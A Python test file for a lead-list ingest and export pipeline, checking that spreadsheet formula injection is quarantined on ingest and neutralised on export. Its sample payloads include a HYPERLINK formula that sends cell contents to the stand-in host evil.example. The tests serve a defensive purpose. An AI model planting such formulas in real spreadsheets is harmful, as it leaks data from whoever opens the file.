"""Formula injection: what ingest refuses and what every export neutralises."""

from __future__ import annotations

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from config.policies import get_ingest_policies
from connectors.exhibition_files import RawTable
from tasks.common.spreadsheet_safety import (
    is_formula,
    is_unsafe_start,
    neutralise,
    neutralise_cell,
)
from tasks.ingest.mapping import map_columns
from tasks.ingest.normalize import normalize_table

HYPERLINK = 'HYPERLINK("http://evil.example/?"&A1,"x")'
# What a spreadsheet evaluates: each one passed the filter before.
EVALUATED = [f"-1+{HYPERLINK}", f"+1+{HYPERLINK}", "@A1", "-A1*2", "+$B$2", "@SUM(A1:A3)"]
UNSAFE_STARTS = [
    *EVALUATED,
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u2003=1+1",
    "-",
    "+55 11 98765-4321",
]


@pytest.mark.parametrize("cell", EVALUATED)
def test_expressions_reaching_a_function_or_a_reference_are_formulas(cell: str) -> None:
    assert is_formula(cell)


@pytest.mark.parametrize("cell", ["+55 11 98765-4321", "- met at booth (twice)", "-12.5", "a=b"])
def test_phones_numbers_and_prose_are_not_formulas(cell: str) -> None:
    assert not is_formula(cell)


@pytest.mark.parametrize("cell", UNSAFE_STARTS)
def test_every_unsafe_start_is_neutralised_on_export(cell: str) -> None:
    out = neutralise(pd.DataFrame({"text": [cell, "plain"], "n": [-1, 2]}))
    assert out["text"].tolist() == ["'" + cell, "plain"]
    assert out["n"].tolist() == [-1, 2]  # typed numbers stay numbers


@given(st.text(max_size=40))
def test_no_neutralised_cell_starts_unsafely(cell: str) -> None:
    out = neutralise(pd.DataFrame({"c": [cell]}))["c"].iloc[0]
    assert not is_unsafe_start(out)
    assert out in (cell, "'" + cell)


@given(st.lists(st.text(alphabet=st.sampled_from(" \u2003\u00a0\t=+-@ab1"), max_size=6)))
def test_the_frame_and_the_cell_forms_neutralise_the_same_cells(cells: list[str]) -> None:
    """XLSX and JSON exports go through the frame form, CSV through the cell form."""
    out = neutralise(pd.DataFrame({"c": pd.Series(cells, dtype=object)}))["c"].tolist()
    assert out == [neutralise_cell(cell) for cell in cells]


HEADER = ["Nome", "Sobrenome", "E-mail", "Empresa", "Celular", "Observações"]


def _reasons(rows: list[list[str]]) -> list[object]:
    policy = get_ingest_policies().sources
    table = RawTable(header=HEADER, rows=list(enumerate(rows, start=1)), malformed=[])
    out = normalize_table(
        table,
        map_columns(HEADER, policy),
        policy,
        default_region="BR",
        timezone="America/Sao_Paulo",
        max_field_chars=1000,
    )
    return [None if pd.isna(r) else r for r in out["reason"]]


@pytest.mark.parametrize("payload", EVALUATED)
def test_ingest_quarantines_formulas_in_any_field(payload: str) -> None:
    row = ["Maria", "Souza", "m@acme.com.br", "ACME", "(11) 98765-4321", payload]
    assert _reasons([row]) == ["formula_injection"]


@pytest.mark.parametrize("payload", ["-ACME", "@acme", "+ACME Ltda", "=ACME"])
def test_ingest_quarantines_any_unsafe_start_in_a_company_or_a_name(payload: str) -> None:
    as_company = ["Maria", "Souza", "m@acme.com.br", payload, "", ""]
    as_name = [payload, "Souza", "m@acme.com.br", "ACME", "", ""]
    assert _reasons([as_company, as_name]) == ["formula_injection"] * 2


def test_ingest_keeps_a_phone_with_plus_and_a_note_with_a_dash() -> None:
    row = ["Maria", "Souza", "m@acme.com.br", "ACME", "+55 11 98765-4321", "- met at booth"]
    assert _reasons([row]) == [None]
